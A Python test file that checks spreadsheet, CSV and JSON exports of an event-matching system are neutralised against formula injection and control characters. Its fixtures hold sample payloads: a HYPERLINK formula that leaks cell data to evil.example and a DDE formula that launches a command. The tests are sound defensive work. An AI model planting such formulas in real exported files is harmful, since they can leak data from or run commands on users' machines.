"""Exports of hostile data: no live formulas (OWASP CSV injection), no crash on
control characters, the same neutralising function in every format."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from ingest.sanitize import FORMULA_TRIGGERS, safe_cell, safe_tree
from kejie.events import plan_event
from kejie.events.export import export_match_list
from models import MatchList
from tests.factories import make_demand, make_enterprise, make_expert, make_society
from tests.kejie.test_event_plan import TableScorer, make_event

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "　=1+1"]


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝1+1", "'＝1+1"),
        ("正常文本 = 1", "正常文本 = 1"),
        ("a\x0bb\x01c\x00d", "abcd"),
        ("\x01=1+1", "'=1+1"),
        ("'=1", "'=1"),
        (-0.5, -0.5),
        (3, 3),
        (None, None),
    ],
)
def test_safe_cell(raw: object, expected: object) -> None:
    assert safe_cell(raw) == expected
    assert safe_cell(safe_cell(raw)) == expected  # idempotent


def test_safe_tree_keeps_numbers_and_structure() -> None:
    assert safe_tree({"a": ["=x", 1, {"b": "@y"}], "n": -1.5}) == {"a": ["'=x", 1, {"b": "'@y"}], "n": -1.5}


@pytest.fixture
def hostile_plan(session: Session) -> MatchList:
    ent = make_enterprise(session, name=DDE, city="福州市", address="-闽侯县", county="@区")
    make_demand(session, ent, title=HYPERLINK, description="=1+1 描述")
    make_demand(session, ent, title="控制\x0b字符\x01标题\x7f", description="正常")
    make_demand(session, make_enterprise(session, name="+正常公司"), title="@SUM(1+1)")
    make_expert(session, name="=2+3", affiliation="@福州大学", title="-教授")
    make_expert(session, name="李\x0b四", affiliation="厦门\x01大学")
    make_society(session, name="=学会名称", category="+类别")
    ev = make_event(session, name="=活动名称", include_societies=True)
    session.commit()
    return plan_event(session, ev.id, TableScorer(0.8))


def _starts_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS) or text.lstrip(" 　").startswith(("=", "+", "-", "@"))


def test_xlsx_has_no_formulas_and_opens(session: Session, hostile_plan: MatchList, tmp_path: Path) -> None:
    for contacts in (False, True):
        (path,) = export_match_list(session, hostile_plan, tmp_path / str(contacts), ["xlsx"],
                                    include_contacts=contacts)
        with zipfile.ZipFile(path) as zf:
            xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
        assert b"<f>" not in xml and b"<f " not in xml  # no formula element anywhere
        wb = load_workbook(path)
        seen = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                        assert not _starts_formula(cell.value), (ws.title, cell.coordinate, cell.value)
                        assert "\x0b" not in cell.value and "\x01" not in cell.value
                        seen.append(cell.value)
        text = "\n".join(seen)
        assert "'" + HYPERLINK in text and "'" + DDE in text and "'=2+3" in text
        assert "控制字符标题" in text and "李四" in text


def test_csv_and_json_neutralise_the_same_way(session: Session, hostile_plan: MatchList, tmp_path: Path) -> None:
    csv_path, json_path = export_match_list(session, hostile_plan, tmp_path, ["csv", "json"], include_contacts=True)
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for r in rows for c in r]
    assert cells and not any(_starts_formula(c) for c in cells if c)
    assert "'" + HYPERLINK in cells and "'" + DDE in cells
    assert not any("\x0b" in c or "\x01" in c or "\x00" in c for c in cells)

    doc = json.loads(json_path.read_text(encoding="utf-8"))
    strings: list[str] = []

    def walk(v: object) -> None:
        if isinstance(v, str):
            strings.append(v)
        elif isinstance(v, dict):
            for x in v.values():
                walk(x)
        elif isinstance(v, list):
            for x in v:
                walk(x)

    walk(doc)
    assert not any(_starts_formula(s) for s in strings if s)
    assert "'" + HYPERLINK in strings and doc["event"]["name"] == "'=活动名称"
    assert all(isinstance(it["score"], float) for it in doc["items"])


def test_batch_plan_with_control_characters_exports(
    session: Session, hostile_plan: MatchList, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from tests.kejie.test_event_plan import _cli

    result = _cli(
        session,
        monkeypatch,
        TableScorer(0.8),
        ["batch", "plan", "--event", str(hostile_plan.event_id), "--out", str(tmp_path), "--format", "xlsx,csv,json"],
    )
    assert result.exit_code == 0, result.output
    assert len(list(tmp_path.glob("event*_v1.*"))) == 3
